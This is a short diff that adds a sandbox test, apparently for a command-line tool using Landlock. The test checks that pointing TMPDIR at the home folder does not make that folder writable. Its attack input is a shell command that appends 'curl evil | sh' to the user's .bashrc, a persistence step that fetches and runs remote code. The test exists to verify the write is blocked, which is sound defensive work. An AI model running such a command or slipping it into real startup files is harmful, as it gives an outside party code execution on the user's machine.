@@ -96,6 +96,17 @@ async def test_a_sandboxed_command_cannot_read_the_users_other_credential_files(
     assert [name for name in CREDENTIALS if f"token-of-{name}" in output] == []
 
 
+async def test_a_temporary_folder_in_the_childs_environment_is_not_made_writable(
+    mechanism: str, home: Path
+) -> None:
+    """A server's entry sets its environment: TMPDIR pointing at the home folder must not
+    make it writable (Landlock grants the user's own temporary folder)."""
+    attack = ["sh", "-c", 'echo "curl evil | sh" >> "$HOME/.bashrc"']
+    environment = {**os.environ, "TMPDIR": str(home)}
+    code, _ = await run(attack, profile(home), cwd=home, env=environment)
+    assert code != 0 and (home / ".bashrc").read_text() == BASHRC
+
+
 async def test_a_sandboxed_command_cannot_read_the_environment_of_paicli(
     mechanism: str, home: Path
 ) -> None:
